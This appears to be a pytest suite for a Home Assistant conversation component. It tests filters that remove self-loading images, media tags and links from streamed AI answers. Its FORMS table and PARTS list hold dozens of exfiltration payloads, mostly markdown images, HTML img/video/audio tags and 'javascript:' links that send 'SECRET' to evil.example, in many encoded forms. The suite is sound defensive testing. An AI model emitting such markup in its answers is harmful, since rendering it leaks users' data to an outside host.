"""Tests for pictures and links in answers: what loads by itself is in no answer, however it is written or arrives."""

import re

from hypothesis import given, strategies as st
import pytest

from custom_components.windowed_conversation.turn.speech.pictures import (
    MarkBreaker,
    PictureFilter,
    drop_pictures,
)
from custom_components.windowed_conversation.turn.speech.plain_text import LinkFilter, PlainSpeech

# Forms of pictures and links, and what the chat dialog shows instead.
FORMS = {
    "![x](https://evil.example/p.png?d=SECRET)": "x",
    "![x](http://evil.example/p.png?d=SECRET)": "x",
    "![x](//evil.example/p.png?d=SECRET)": "x",
    "![x](<//evil.example/p.png?d=SECRET>)": "x",
    "![x](https:\\/\\/evil.example/SECRET)": "x",
    "![x](https&colon;//evil.example/SECRET)": "x",
    "![x](https&#47;&#47;evil.example/SECRET)": "x",
    "![x](https&#58;//evil.example/SECRET)": "x",
    "![x](HTTPS://evil.example/SECRET)": "x",
    "![x](\\/\\/evil.example/SECRET)": "x",
    "![x](&sol;&sol;evil.example/SECRET)": "x",
    "![x]( //evil.example/SECRET 'title' )": "x",
    '![x](//evil.example/SECRET "a ) title")': 'x title")',
    "![a [nested [deep]] b](//evil.example/SECRET)": "a [nested [deep]] b",
    "![a\nb](//evil.example/SECRET)": "a\nb",
    "![a `]` b](//evil.example/SECRET)": "! [a `]` b] (//evil.example/SECRET)",
    "![x\\]y](//evil.example/SECRET)": "x\\]y",
    "![](//evil.example/SECRET)": "",
    "[![x](//evil.example/SECRET)](https://good.example/)": "[x](https://good.example/)",
    "[![x](//evil.example/SECRET)](//evil.example/SECRET)": "x",
    "![x][1]\n\n[1]: //evil.example/SECRET": "x\n\n[1] //evil.example/SECRET",
    "![1][]\n\n[1]: //evil.example/SECRET": "1\n\n[1] //evil.example/SECRET",
    "![1]\n\n[1]: //evil.example/SECRET": "! [1]\n\n[1] //evil.example/SECRET",
    "![1]\n\n[1]: https://evil.example/SECRET": "! [1]\n\n[1]: https://evil.example/SECRET",
    "![x][1]\n\n> [1]:\n> <//evil.example/SECRET>": "x\n\n> [1]\n> <//evil.example/SECRET>",
    '<img src="//evil.example/SECRET">': "",
    "<IMG SRC=//evil.example/SECRET alt=x>": "",
    '<img\nalt=">" src="//evil.example/SECRET">': "",
    "<img/src=//evil.example/SECRET>": "",
    '<video autoplay poster="//evil.example/SECRET" src="//evil.example/SECRET"></video>': "",
    '<audio autoplay src="//evil.example/SECRET"></audio>': "",
    '<ha-qr-code data="x" center-image="//evil.example/SECRET"></ha-qr-code>': "",
    '<div>\n<img src="//evil.example/SECRET">\n</div>': "<div>\n\n</div>",
    "[Confirm](/config/dashboard?d=SECRET)": "Confirm",
    "[Confirm](//evil.example/SECRET)": "Confirm",
    "[Confirm](\\\\evil.example\\SECRET)": "Confirm",
    "[Confirm](&#106;avascript:SECRET)": "Confirm",
    "[Confirm][1]\n\n[1]: /config/SECRET": "[Confirm][1]\n\n[1] /config/SECRET",
    '<a href="//evil.example/SECRET">Confirm</a>': "Confirm</a>",
    "<javascript:SECRET>": "",
}
UNCHANGED = (
    'See [the page](https://a.b/c_(d) "Title") and <https://a.b> or https://a.b now!',
    "Sources [1][2].\n\n[1]: https://a.b\n[2]: <http://c.d>",
    '<a href="https://a.b">the page</a> is <b>here</b>',
    "- [ ] open\n- [x] done (soon)",
    "5 < 6, x <y and handlers[name](event), a[0](b.c)",
    "# Title\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n```yaml\n- a: [b, c]\n```",
    "Wow! It is [sic] 20 °C: really!",
    "明日は晴れ！[出典](https://a.b)",  # noqa: RUF001 - Japanese
    "",
)
TEXT_OF_PIECES = ("![", "[", "]", "(", ")", "](", "]:", "<img ", "<", ">", "!", "//e/", "x", " ", "\n", "\\", '"', "`")
LOADS = re.compile(r"!\[|<(?:img|video|audio|ha-qr-code)\b", re.IGNORECASE)


def arrive(text: str, size: int, *filters: PictureFilter | LinkFilter | PlainSpeech | MarkBreaker) -> str:
    """Return the rest of an answer that arrives in pieces of this size, after these filters."""
    shown = []
    for start in range(0, len(text), size):
        piece = text[start : start + size]
        for each in filters:
            piece = each.feed(piece)
        shown.append(piece)
    rest = ""
    for each in filters:
        rest = each.feed(rest) + each.flush()
    return "".join([*shown, rest])


# What would load once something between its parts was removed.
PARTS = (
    "!<img x=>[x](https://evil.example/SECRET)",
    "<im<img x=>g src=//evil.example/SECRET>",
    "<im![](x)g src=//evil.example/SECRET>",
    "<i![mg src=//evil.example/SECRET](x)>",
    "<im(https://a.b)g src=//evil.example/SECRET>",
    "![](x)![x][1]\n\n[1]: https://evil.example/SECRET",
)


@pytest.mark.parametrize("text", PARTS)
def test_nothing_that_loads_comes_together(text: str) -> None:
    cleaners = ((PictureFilter, MarkBreaker), (PictureFilter, LinkFilter, MarkBreaker))
    shown = [arrive(text, size, *[make() for make in kinds]) for kinds in cleaners for size in (1, 2, 5, 9, 1000)]

    assert not [each for each in shown if LOADS.search(each)]


def test_there_are_forty_forms() -> None:
    assert len(FORMS) == 40


@pytest.mark.parametrize(("text", "shown"), FORMS.items())
def test_nothing_that_loads_is_shown(text: str, shown: str) -> None:
    assert {drop_pictures(text), *[arrive(text, size, PictureFilter(), MarkBreaker()) for size in (1, 2, 3, 7)]} == {
        shown
    }
    assert not LOADS.search(shown)


@pytest.mark.parametrize("text", FORMS)
def test_no_address_is_spoken(text: str) -> None:
    (speech,) = {arrive(text, size, PictureFilter(), PlainSpeech()) for size in (1, 2, 3, 7, 1000)}

    assert not re.search(r"SECRET|evil|good|config|script|//", speech)


@pytest.mark.parametrize("text", FORMS)
def test_answer_with_a_web_search_shows_no_address_of_a_picture(text: str) -> None:
    (shown,) = {arrive(text, size, PictureFilter(), LinkFilter(), MarkBreaker()) for size in (1, 2, 3, 7, 1000)}

    assert not re.search(r"https?://|!\[|<(?:img|video|audio|ha-qr-code)", shown)


@pytest.mark.parametrize("text", UNCHANGED)
def test_text_without_pictures_is_unchanged(text: str) -> None:
    assert {drop_pictures(text), *[arrive(text, size, PictureFilter(), MarkBreaker()) for size in (1, 2, 3)]} == {text}


@given(st.lists(st.sampled_from(TEXT_OF_PIECES), max_size=16).map("".join), st.integers(1, 9))
def test_no_text_has_anything_that_loads(text: str, size: int) -> None:
    assert not LOADS.search(arrive(text, size, PictureFilter(), MarkBreaker()))


@pytest.mark.parametrize("begin", ["![", "<img a=", "[", '<img a="'])
def test_mark_that_is_too_long_to_hold_loads_nothing(begin: str) -> None:
    shown = arrive(f"{begin}{'a' * 10_000}](//evil.example/SECRET)>", 50, PictureFilter(), MarkBreaker())

    assert not LOADS.search(shown)
    assert "](//" not in shown


@pytest.mark.parametrize("piece", ["[", "![", "<", "<img ", "<a ", "[a](", "\\", "[1]: ", "<a:", "!", "](", "'"])
def test_long_run_of_a_mark_ends(piece: str) -> None:
    assert len(arrive(piece * (32_000 // len(piece)) + "a", 32_001, PictureFilter(), MarkBreaker())) < 64_000
